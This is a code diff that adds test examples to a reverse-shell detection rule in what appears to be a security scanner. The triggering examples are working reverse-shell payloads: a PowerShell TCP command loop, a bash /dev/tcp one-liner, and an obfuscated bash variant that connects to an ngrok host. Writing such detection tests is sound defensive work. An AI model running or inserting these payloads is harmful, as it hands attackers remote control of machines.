@@ -2,6 +2,9 @@ import SkillScanCore
 
 extension ReverseShellRule {
   static let triggering: [Example] = [
+    Example(
+      "function Open-Link($h, $p) {\n  $c = New-Object Net.Sockets.TcpClient($h, $p)\n  $s = $c.GetStream()\n  [pscustomobject]@{ R = New-Object IO.StreamReader($s); W = New-Object IO.StreamWriter($s) }\n}\nfunction Invoke-Action([string]$a) { $b = ↓[scriptblock]::Create($a); (& $b 2>&1 | Out-String) }\nwhile ($true) { $l = Open-Link $cfg.Host $cfg.Port; $l.W.WriteLine((Invoke-Action $l.R.ReadLine())) }\n",
+      language: .powershell, note: "a TCP stream's lines run as script blocks, split across functions"),
     Example("_ka() {\n  local a=\"6.tcp.eu\" b=\"ngrok.io\" d=\"/dev\" t=\"tcp\"\n  ( setsid bash -c \"exec ↓bash -i >& ${d}/${t}/${a}.${b}/17337 0>&1\" & )\n}\n", language: .shell, note: "socket path hidden in variables: the shape is the reverse shell"),
     Example("#!/bin/bash\n↓bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", language: .shell),
     Example(
@@ -46,6 +49,9 @@ extension ReverseShellRule {
   ]
 
   static let nonTriggering: [Example] = [
+    Example(
+      "$c = New-Object Net.Sockets.TcpClient('localhost', 9100)\n$s = $c.GetStream()\n$r = New-Object IO.StreamReader($s)\n$status = $r.ReadLine() | ConvertFrom-Json\n$check = [scriptblock]::Create('param($x) $x.ok')\n",
+      language: .powershell, note: "a printer status read over TCP: the script block is a literal, not the stream's text"),
     Example("bash -i > session.log 2>&1\nsh -i 2>&1 | tee debug.log\n", language: .shell, note: "an interactive shell logging its output reads nothing back"),
     Example("awk '{print $1}' access.log | sort | uniq -c\n", language: .shell, note: "awk without a socket"),
     Example("exec 3<input.txt\nwhile read -r line <&3; do echo \"$line\" >&4; done\n", language: .shell, note: "reading one descriptor and writing another is not a relay"),
